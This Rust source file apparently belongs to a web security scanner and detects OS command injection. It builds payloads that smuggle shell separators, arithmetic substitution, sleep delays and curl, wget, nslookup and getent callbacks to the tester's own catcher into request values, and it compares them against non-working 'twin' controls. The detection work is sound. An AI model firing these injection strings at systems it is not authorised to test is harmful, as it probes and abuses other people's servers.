//! Whether a value becomes part of a command that a shell reads (CWE-78, OWASP A03:2021).
//!
//! For each value of each request:
//! 1. The value is followed by what a shell would compute: by substitution, behind each separator, behind each quotation mark, and
//!    for the shells of Windows. The product of two random factors must come back; the request has only the factors.
//! 2. Negative twin: the same with signs that no shell knows. It must not give its product.
//! 3. It is repeated with other factors. Then it is proven.
//! 4. Where nothing comes back: a wait of two seconds behind all quotation marks at once. Where the answer is late, waits of
//!    chosen lengths in mixed order, zero among them, must each make the answer as late as they say, and the twin (a program that
//!    nobody has) must not. Then it is firm.
//!
//! 5. Who says nothing and is not waited for may still ask somewhere: `curl` or `wget` for an address of the probe's, and with a zone of
//!    the probe's (`[callback]`) `nslookup` or `getent` for a name in it. All values are sent first and looked for once. Who came for
//!    the word is asked to come again by another one, and must not come by the twin (programs that nobody has): proven.
//!
//! Nothing but `echo`, `expr`, `set /a`, `sleep` and those four is run.

use std::time::Duration;

use gabion_model::outbound::BoxFuture;

use super::reckoning::{Form, Reckoned, reckon};
use super::waiting::{Waits, waits};
use super::{Attack, Phase};
use crate::aim::{Aim, Sent, aims};
use crate::catch::Catch;
use crate::field::Field;
use crate::operation::Place;
use crate::verdict::{Proof, Verdict};
use crate::wire::WireError;

pub(super) struct CommandInjection;

const ID: &str = "command-injection";

impl Attack for CommandInjection {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(async move {
            let aims = aims(field);
            let all: Vec<&Aim<'_>> = aims.iter().filter(|aim| is_candidate(aim)).collect();
            if all.is_empty() {
                field.not_tested(ID, "no operation takes a value");
            }
            let mut quiet = Vec::new();
            for aim in all {
                if !attack(aim).await? {
                    quiet.push(aim);
                }
            }
            calls(field, &quiet).await
        })
    }
}

/// A number in a path, or a switch, reaches no shell as text.
fn is_candidate(aim: &Aim<'_>) -> bool {
    aim.is_value() && aim.point.place != Place::Cookie
}

/// All ways at once, so that few requests try many: by substitution as it stands and within quotation marks, behind each separator,
/// behind the end of either quotation mark; and for the shells of Windows.
const TOGETHER: &[Form] = &[
    Form {
        attack: |value, one, two| {
            let (product, reckon) = (format!("$(({one}*{two}))"), format!("expr {one} \\* {two}"));
            format!(
                "{value}{product}'{product}'|{reckon};{reckon}&{reckon}\n{reckon};':;echo {product};'\";echo {product};\""
            )
        },
        twin: |value, one, two| {
            let (product, reckon) = (format!("%(({one}*{two}))"), format!("expr {one} \\* {two}"));
            format!(
                "{value}{product}'{product}',{reckon},{reckon},{reckon},{reckon},',,echo {product},'\",echo {product},\""
            )
        },
    },
    Form {
        attack: |value, one, two| format!("{value};$({one}*{two})#&set /a {one}*{two}"),
        twin: |value, one, two| format!("{value},%({one}*{two})#,set /a {one}*{two}"),
    },
];

/// One by one: where a filter takes offence at one sign.
const APART: &[Form] = &[
    Form {
        attack: |value, one, two| format!("{value};echo $(({one}*{two}))"),
        twin: |value, one, two| format!("{value},echo %(({one}*{two}))"),
    },
    Form {
        attack: |value, one, two| format!("{value}|echo $(({one}*{two}))"),
        twin: |value, one, two| format!("{value}/echo %(({one}*{two}))"),
    },
    Form {
        attack: |value, one, two| format!("{value}`expr {one} \\* {two}`"),
        twin: |value, one, two| format!("{value}´expr {one} \\* {two}´"),
    },
    Form {
        attack: |value, one, two| format!("{value}\nexpr {one} '*' {two}"),
        twin: |value, one, two| format!("{value} expr {one} '*' {two}"),
    },
    Form {
        attack: |value, one, two| format!("{value}&set /a {one}*{two}"),
        twin: |value, one, two| format!("{value},set /a {one}*{two}"),
    },
];

const SHELL: &str = "a shell";

/// Whether a value is decided.
async fn attack(aim: &Aim<'_>) -> Result<bool, WireError> {
    let mut offended = false;
    for form in TOGETHER {
        match reckon(aim, ID, form, SHELL).await? {
            Reckoned::Proven => return Ok(true),
            // A number that must be one reaches no shell as text.
            Reckoned::Nothing { refused: true } if aim.works && aim.original.parse::<f64>().is_ok() => {
                aim.field.say(aim.outcome(ID, Verdict::Passed, "only numbers are taken"));
                return Ok(true);
            }
            Reckoned::Nothing { refused } => offended |= refused && aim.works,
        }
    }
    if offended && is_free_text(aim) {
        for form in APART {
            if matches!(reckon(aim, ID, form, SHELL).await?, Reckoned::Proven) {
                return Ok(true);
            }
        }
    }
    let wait = Waits {
        attack: |value, seconds| format!("{value};sleep {seconds};#';sleep {seconds};#\";sleep {seconds};#"),
        twin: |value, seconds| format!("{value};slepp {seconds};#';slepp {seconds};#\";slepp {seconds};#"),
        who: "a shell",
    };
    waits(aim, ID, &wait).await
}

/// How long somebody may take to come, after the last value was sent.
const LATE: Duration = Duration::from_secs(1);

/// Who asks somewhere behind the answer.
async fn calls(field: &Field, quiet: &[&Aim<'_>]) -> Result<(), WireError> {
    let mut sent = Vec::new();
    if let Some(catch) = &field.catch {
        for aim in quiet.iter().filter(|aim| is_free_text(aim)) {
            if let Some((word, one)) = call(aim, catch, PROGRAMS).await? {
                sent.push((*aim, word, one));
            }
        }
        if let Some((_, word, _)) = sent.last() {
            catch.met(word, LATE).await;
        }
    }
    for aim in quiet {
        let own = sent.iter().find(|(own, ..)| std::ptr::eq(*own, *aim));
        let proven = match (&field.catch, own) {
            (Some(catch), Some((_, word, one))) => called(aim, catch, word, one).await?,
            _ => false,
        };
        if !proven {
            aim.field.say(aim.outcome(ID, Verdict::Passed, "no shell computed what was put into it"));
        }
    }
    Ok(())
}

/// Programs that ask for an address, and for a name.
const PROGRAMS: [&str; 4] = ["curl", "wget", "nslookup", "getent"];
/// Their letters the other way round: nobody has them.
const NOBODYS: [&str; 4] = ["culr", "wgte", "nslokoup", "getnet"];

/// Has a shell ask for a word of its own.
async fn call(
    aim: &Aim<'_>,
    catch: &Catch,
    programs: [&str; 4],
) -> Result<Option<(String, Sent)>, WireError> {
    let word = Catch::word(&*aim.field.rng);
    let [curl, wget, nslookup, getent] = programs;
    let url = catch.url(&word);
    let mut line = format!("{curl} -s -m 2 {url}||{wget} -q -T 2 -O- {url}");
    if let Some(names) = catch.names() {
        let name = names.name(&word);
        line = format!("{line}||{nslookup} {name}||{getent} hosts {name}");
    }
    let text = format!("{};{line};#';{line};#\";{line};#", aim.original);
    Ok(aim.text(&text).await?.map(|sent| (word, sent)))
}

async fn called(aim: &Aim<'_>, catch: &Catch, word: &str, first: &Sent) -> Result<bool, WireError> {
    let Some(line) = catch.met(word, Duration::ZERO).await else { return Ok(false) };
    let (Some((again, second)), Some((nobody, twin))) =
        (call(aim, catch, PROGRAMS).await?, call(aim, catch, NOBODYS).await?)
    else {
        return Ok(false);
    };
    let came = catch.met(&again, LATE.saturating_mul(3)).await;
    if came.is_none() || catch.met(&nobody, LATE).await.is_some() {
        return Ok(false);
    }
    let proof = Proof::new(
        aim.evidence(first),
        format!("`{line}` came to the probe, and came again for another word"),
    )
    .twin(aim.evidence(&twin))
    .shown(aim.evidence(&second));
    aim.field.say(aim.outcome(ID, Verdict::Proven, "a shell asks for what the value names").proof(proof));
    Ok(true)
}

/// Whether the value is one of words: what takes only numbers refuses everything, and need not be asked sign by sign.
fn is_free_text(aim: &Aim<'_>) -> bool {
    aim.original.parse::<f64>().is_err() && aim.point.place != Place::Path
}
